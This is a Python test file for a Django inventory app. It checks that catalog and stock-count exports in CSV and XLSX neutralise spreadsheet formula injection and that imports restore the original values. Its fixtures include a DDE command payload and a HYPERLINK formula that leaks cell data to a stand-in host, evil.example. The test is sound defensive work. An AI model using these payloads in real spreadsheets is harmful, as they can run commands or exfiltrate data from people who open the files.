"""From the attacker's side: a merchant's colleague names an item ``=cmd|' /C calc'!A0``; whoever opens
an export in a spreadsheet must see that text, never run it, and an import must read it back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from openpyxl import load_workbook

from apps.catalog.models import Item
from apps.catalog.services.counts import stock_count_create
from apps.catalog.tests.factories import ItemFactory, LocationFactory, stock
from apps.catalog.tests.test_catalog_io_admin import CSV_FORMAT, ITEM_COLUMNS, XLSX_FORMAT, confirm, export, upload

pytestmark = pytest.mark.django_db

HOSTILE = {
    "CALC": "=cmd|' /C calc'!A0",
    "PLUS": "+1",
    "MINUS": "-2",
    "AT": "@SUM(A1)",
    "TAB": "\tTabbed",
    "CR": "\rReturned",
    "LINK": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
}
RUNNABLE = ("=", "+", "-", "@", "\t", "\r")
# XML turns a carriage return into a line feed when it is read (XLSX is XML): the cell stays text.
IN_XLSX = {sku: name.replace("\r", "\n") for sku, name in HOSTILE.items()}
# The import trims the blanks around a workbook's cells, as it always did.
FROM_XLSX = {sku: name.strip() for sku, name in HOSTILE.items()}


@pytest.fixture
def hostile_items():
    warehouse = LocationFactory(code="WH")
    for sku, name in HOSTILE.items():
        stock(ItemFactory(sku=sku, name=name), warehouse, 3)
    stock(ItemFactory(sku="-LEAD", name="Lead SKU"), warehouse, 1)
    return warehouse


@pytest.fixture
def merchant(client, django_user_model):
    user = django_user_model.objects.create_superuser(username="boss", password="pw-boss-123", email="b@example.com")
    client.force_login(user)
    return client


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def names_in_csv(text: str) -> dict[str, str]:
    rows = csv_rows(text)
    sku, name = rows[0].index("sku"), rows[0].index("name")
    return {row[sku]: row[name] for row in rows[1:]}


def assert_nothing_runs(cells: list[str]) -> None:
    runnable = [cell for cell in cells if cell.startswith(RUNNABLE)]
    assert runnable == []


def test_the_catalog_csv_export_marks_formulas_and_its_import_reads_them_back(hostile_items, tmp_path):
    call_command("export_catalog", str(tmp_path))
    text = (tmp_path / "items.csv").read_bytes().decode("utf-8")
    names = names_in_csv(text)
    assert {sku: names[sku] for sku in HOSTILE} == {sku: "'" + name for sku, name in HOSTILE.items()}
    assert names["'-LEAD"] == "Lead SKU"  # a SKU is text too
    assert_nothing_runs([cell for row in csv_rows(text) for cell in row])
    # Someone "fixes" the names in the database; importing the file puts them back exactly.
    Item.objects.filter(sku__in=list(HOSTILE)).update(name="changed")
    call_command("import_catalog", str(tmp_path / "items.csv"), "--no-progress")
    assert dict(Item.objects.filter(sku__in=list(HOSTILE)).values_list("sku", "name")) == HOSTILE
    assert Item.objects.filter(sku="-LEAD").exists() and not Item.objects.filter(sku="'-LEAD").exists()


def test_the_catalog_workbook_holds_string_cells_and_round_trips(hostile_items, tmp_path):
    path = tmp_path / "catalog.xlsx"
    call_command("export_catalog", str(path))
    sheet = load_workbook(path)["items"]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for sku, name in IN_XLSX.items():
        assert (cells[sku].value, cells[sku].data_type) == (name, "s")
    Item.objects.filter(sku__in=list(HOSTILE)).update(name="changed")
    call_command("import_catalog", str(path), "--no-progress")
    assert dict(Item.objects.filter(sku__in=list(HOSTILE)).values_list("sku", "name")) == FROM_XLSX


def test_the_admin_exports_are_formula_safe_and_import_back_unchanged(hostile_items, merchant):
    as_csv = export(merchant, "item", "ItemsResource", ITEM_COLUMNS, CSV_FORMAT)
    assert as_csv.status_code == 200
    text = as_csv.content.decode("utf-8")
    assert names_in_csv(text)["CALC"] == "'" + HOSTILE["CALC"]
    assert_nothing_runs([cell for row in csv_rows(text) for cell in row])

    as_xlsx = export(merchant, "item", "ItemsResource", ITEM_COLUMNS, XLSX_FORMAT)
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet.title == "items"
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert {sku: (cells[sku].value, cells[sku].data_type) for sku in HOSTILE} == {
        sku: (name, "s") for sku, name in IN_XLSX.items()
    }
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)

    files = (
        (as_csv.content, "items.csv", CSV_FORMAT, HOSTILE),
        (as_xlsx.content, "items.xlsx", XLSX_FORMAT, FROM_XLSX),
    )
    for data, name, fmt, names in files:
        Item.objects.filter(sku__in=list(HOSTILE)).update(name="changed")
        preview = upload(merchant, "item", data, name, fmt=fmt)
        assert preview.status_code == 200
        assert confirm(merchant, "item", preview).status_code == 302
        assert dict(Item.objects.filter(sku__in=list(HOSTILE)).values_list("sku", "name")) == names


def test_the_count_sheet_marks_formulas_keeps_numbers_and_uploads_back(hostile_items, merchant):
    count = stock_count_create(location=hostile_items, actor="lead")
    sheet = merchant.get(f"/admin/catalog/stockcount/{count.pk}/download/").content.decode()
    rows = csv_rows(sheet)
    assert rows[0] == ["sku", "name", "expected", "reserved", "counted"]
    by_sku = {row[0]: row for row in rows[1:]}
    assert by_sku["CALC"][1] == "'" + HOSTILE["CALC"] and by_sku["'-LEAD"][2:4] == ["1", "0"]
    assert_nothing_runs([cell for row in rows for cell in row])
    # Counted into the downloaded sheet and uploaded: the marked SKU is found as itself.
    filled = io.StringIO()
    writer = csv.writer(filled)
    writer.writerow(rows[0])
    for row in rows[1:]:
        writer.writerow([*row[:4], "2"])
    upload_file = SimpleUploadedFile("count.csv", filled.getvalue().encode(), content_type="text/csv")
    answer = merchant.post(f"/admin/catalog/stockcount/{count.pk}/upload/", {"file": upload_file})
    assert answer.status_code == 302
    counted = dict(count.lines.values_list("item__sku", "counted"))
    assert counted["-LEAD"] == 2 and counted["CALC"] == 2 and None not in counted.values()
